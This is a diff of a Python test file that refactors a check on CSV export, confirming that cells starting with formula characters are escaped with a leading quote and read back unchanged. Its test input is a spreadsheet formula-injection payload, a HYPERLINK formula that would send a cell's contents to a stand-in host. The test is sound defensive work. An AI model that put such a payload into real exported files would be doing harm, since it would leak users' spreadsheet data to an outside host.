@@ -31,7 +31,8 @@ from tests.security.test_programs import DECLARED, EXAMPLES
 import unlatch.cli
 from unlatch.cli.app import app
 from unlatch.cli.runtime import output
-from unlatch.lifecycle.link_file import as_text, read_rows
+from unlatch.lifecycle.link_file import read_rows
+from unlatch.worklog.neutral import csv_line
 
 if TYPE_CHECKING:
     from tests.cli.project import Done, Project
@@ -226,13 +227,12 @@ def test_a_branch_is_named_and_does_nothing(hostile: Project) -> None:
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "'="])
 def test_no_cell_is_a_formula_and_each_is_read_as_it_was(sign: str) -> None:
     cell = f'{sign}HYPERLINK("http://x/?"&A1)'
-    stream = io.StringIO()
 
-    csv.writer(stream, lineterminator="").writerow((as_text(cell), "https://example.com/1"))
+    line = csv_line((cell, "https://example.com/1"))
 
-    assert "'" == stream.getvalue().lstrip('"')[0]
+    assert "'" == line.lstrip('"')[0]
     if sign.strip():
-        ((row,), mistakes) = read_rows(stream.getvalue())
+        ((row,), mistakes) = read_rows(line)
         assert (cell, []) == (row.wanted, mistakes)
 
 
